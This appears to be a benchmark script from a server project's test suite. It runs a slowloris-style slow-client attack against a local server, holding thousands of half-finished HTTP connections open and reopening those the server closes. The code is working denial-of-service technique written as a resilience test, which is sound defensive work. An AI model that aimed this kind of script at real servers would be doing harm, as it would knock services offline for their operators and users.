/**
 * Holds connections open without finishing a request: half send nothing, half a byte of a header each second. Those the server closes are opened again.
 * Prints how many were opened, closed by the server and refused. A process of its own, so that it can have a core of its own.
 * Usage: node bench/attack/slow-clients.ts '{"origin":"http://127.0.0.1:3000","connections":5000,"seconds":20,"address":"127.0.0.2"}'
 */
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import type { AttackOrder } from './attacker.ts'

const order = JSON.parse(process.argv[2] ?? '') as AttackOrder
const { hostname, port } = new URL(order.origin)
const counts = { opened: 0, closed: 0, refused: 0, most: 0 }
const open = new Set<Socket>()
const until = performance.now() + order.seconds * 1000

const dripping = setInterval(() => {
  for (const socket of open) if (socket.localPort !== undefined && socket.localPort % 2 === 0) socket.write('x')
}, 1_000)
while (performance.now() < until) {
  // In groups, so that the queue of connections not yet accepted does not overflow.
  for (let missing = order.connections - open.size, count = 0; count < Math.min(missing, 100); count += 1) hold()
  counts.most = Math.max(counts.most, open.size)
  await delay(20)
}
clearInterval(dripping)
for (const socket of open) socket.destroy()
process.stdout.write(JSON.stringify(counts))

function hold(): void {
  const socket = connect({ host: hostname, port: Number(port), localAddress: order.address })
  open.add(socket)
  let isConnected = false
  socket.once('connect', () => {
    isConnected = true
    counts.opened += 1
    if (socket.localPort !== undefined && socket.localPort % 2 === 0)
      socket.write('GET / HTTP/1.1\r\nhost: x\r\nx-slow: ')
  })
  socket.resume()
  socket.on('error', () => {})
  socket.once('close', () => {
    if (open.delete(socket)) counts[isConnected ? 'closed' : 'refused'] += 1
  })
}
